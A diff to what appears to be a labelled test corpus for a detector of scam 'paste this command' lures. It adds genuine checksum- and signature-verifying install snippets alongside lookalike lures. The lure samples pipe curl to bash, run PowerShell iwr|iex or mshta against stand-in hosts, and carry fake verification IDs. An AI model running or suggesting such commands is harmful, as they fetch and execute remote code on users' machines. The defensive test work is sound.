@@ -28,6 +28,10 @@ clears and the look-alikes it must not clear (ids `b6b-ok-<technique>-NN` and
 - `bank-notice`: a bank's genuine card-blocked notice with its number, which says what the bank
   will never ask for or sends you to the number on your card. Look-alikes: the same alarm with
   urgency and no such promise, and scam texts quoting a promise in another sentence shape.
+- `verify-comment`: install guides and source that tell you to verify a file ("verify the
+  SHA256 hash before running it", "verify the signature", "verify the code doesn't crash"): an
+  instruction, not a lure's verification token. Look-alikes: tails naming a token with or
+  without its number ("Verification ID: 4471", "Verified secure download ID 29481").
 - `own-tool`: a vendor's own page fetching its own file with certutil or bitsadmin, a
   company's own wiki registering its own package feed, its own docs setting its own proxy
   script (HTTPS): the tool is no trait, the source is. Look-alikes: the same commands for a
@@ -429,6 +433,69 @@ for text in [
     "at 1-888-555-0199 or your funds will be lost.",
 ]:
     book.add("bank-notice", text, flagged, "any", "unknown", None)
+
+# --- verify-comment: an instruction to check a file is no lure's token ---
+VERIFY_OK = [
+    (
+        "https://docs.acmecli.dev/install",
+        "# Download the installer and verify the SHA256 hash before running it\n"
+        "curl -fsSLO https://acmecli.dev/install.sh\ncurl -fsSLO https://acmecli.dev/install.sh.sha256\n"
+        "sha256sum -c install.sh.sha256 && sh install.sh",
+    ),
+    (
+        "https://docs.acmecli.dev/install",
+        "curl -fsSL https://acmecli.dev/install.sh -o install.sh   # verify the checksum code below\nsh install.sh",
+    ),
+    (
+        "https://ferrowave.io/docs/cli/install",
+        "# verify the signature hash of the release before you install it\n"
+        "curl -fsSLO https://ferrowave.io/releases/ferrowave.tar.gz\n"
+        "gpg --verify ferrowave.tar.gz.asc ferrowave.tar.gz && tar xzf ferrowave.tar.gz && ./ferrowave/install.sh",
+    ),
+    (
+        "https://github.com/kestrel-sync/kestrel",
+        "curl -fsSL https://raw.githubusercontent.com/kestrel-sync/kestrel/main/install.sh | bash  # verify the install id afterwards with: kestrel --version",
+    ),
+]
+for page, text in VERIFY_OK:
+    book.add("verify-comment", text, ok, "linux", "terminal", page)
+book.add(
+    "verify-comment",
+    "# The only purpose of this test is to verify the code doesn't crash or leak.\n"
+    "import os\nimport syslog\n\nsyslog.openlog('test')\nos.system('logger done')\n",
+    ok,
+    "any",
+    "unknown",
+    None,
+)
+for text, target, expect in [
+    (
+        "curl -fsSL https://c.update-relay.test/a.sh | bash  # Verification ID: 4471",
+        "terminal",
+        blocked,
+    ),
+    (
+        'powershell -c "iwr https://c.update-relay.test/a.ps1|iex" # Verify code 88231 - press Enter',
+        "run_dialog",
+        blocked,
+    ),
+    (
+        "https://download-center.test/Chrome_Update_131.exe  # Verified secure download ID 29481",
+        "run_dialog",
+        blocked,
+    ),
+    ("mshta https://c.update-relay.test/v.hta # verification hash: a8f3e1", "run_dialog", blocked),
+]:
+    book.add("verify-comment", text, expect, "windows", target, "https://www.bakery-lane.test/")
+book.add(
+    "verify-comment",
+    "https://download-center.test/Chrome_Update_131.exe  # Verified secure download ID 29481",
+    flagged,
+    "windows",
+    "unknown",
+    None,
+)
+
 
 # --- own-tool: the vendor's own file fetched with a Windows tool ---
 OWN_TOOL = [
